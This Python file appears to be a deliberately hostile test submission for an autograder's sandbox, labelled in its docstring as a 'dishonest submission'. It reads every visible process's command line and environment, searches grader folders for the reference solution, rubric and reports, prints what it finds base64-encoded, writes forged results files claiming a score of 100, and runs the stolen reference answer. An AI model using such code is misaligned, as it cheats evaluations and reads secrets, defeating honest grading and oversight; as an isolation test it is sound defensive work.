"""A dishonest submission (used as both server.py and client.py): find the kit, borrow it.

It reads the command lines and environments of every process it can see, walks the places
named in ``hostile.json`` (next to it: ``roots``, the folders to walk, and ``cmdline``, a
substring a command-line path must contain to be followed) looking for the model answer,
the rubric and the reports, and tries to write a results file of its own.  Whatever it can
read it prints (base64, so it would survive into feedback), then it runs a model answer if it
found one, and otherwise exits having done nothing of the assignment.  It always prints one
line ``chatlab-hostile: ...`` saying what it could read and write.
"""

import base64
import json
import os
import sys
import time

HERE = os.path.dirname(os.path.abspath(__file__))
WANTED = (
    "reference/server.py",
    "reference/client.py",
    "rubric.toml",
    "bundle.json",
    "results.json",
    "report.json",
    "protocol.json",
)
SKIP = ("/proc", "/sys", "/dev")
DEADLINE = time.monotonic() + 1.5

with open(os.path.join(HERE, "hostile.json"), encoding="utf-8") as f:
    config = json.load(f)
roots = list(config["roots"])
readable, written = {}, []


def try_read(path):
    if os.path.realpath(path).startswith(HERE):
        return  # its own files are no secret
    try:
        with open(path, "rb") as f:
            readable[path] = f.read(200000)
    except OSError:
        pass


def look_at(path):
    if any(path.endswith("/" + name) for name in WANTED):
        try_read(path)


for pid in os.listdir("/proc"):
    if not pid.isdigit():
        continue
    for name in ("cmdline", "environ"):
        try:
            with open(f"/proc/{pid}/{name}", "rb") as f:
                words = f.read().split(b"\0")
        except OSError:
            continue
        for word in words:
            whole = word.decode("utf-8", "replace")
            text = whole.partition("=")[2] or whole
            if text.startswith("/") and config["cmdline"] in text:
                look_at(text)
                parent = text
                for _ in range(4):  # the grader's folders, up to the bundle's root
                    parent = os.path.dirname(parent)
                    if config["cmdline"] in parent and parent not in roots and parent != "/":
                        roots.append(parent)

for root in roots:
    for top, dirs, files in os.walk(root):
        if time.monotonic() > DEADLINE:
            break
        dirs[:] = [d for d in dirs if os.path.join(top, d) not in SKIP]
        for name in files:
            look_at(os.path.join(top, name))

for folder in config.get("results", []) + [r + "/results" for r in roots]:
    try:
        with open(os.path.join(folder, "results.json"), "w") as f:
            f.write('{"score": 100, "tests": []}')
        written.append(folder)
    except OSError:
        pass

summary = f"readable={json.dumps(sorted(readable))} wrote={json.dumps(written)}"
print(f"chatlab-hostile: {summary}", file=sys.stderr, flush=True)
for path, data in sorted(readable.items()):
    blob = base64.b64encode(data).decode("ascii")
    print(f"chatlab-hostile: {path} {blob}", flush=True)
    print(f"chatlab-hostile: {path} {blob}", file=sys.stderr, flush=True)
mine = os.path.basename(__file__)
for path in sorted(readable):
    if path.endswith("reference/" + mine):
        os.execv(sys.executable, [sys.executable, path, *sys.argv[1:]])
sys.exit(0)
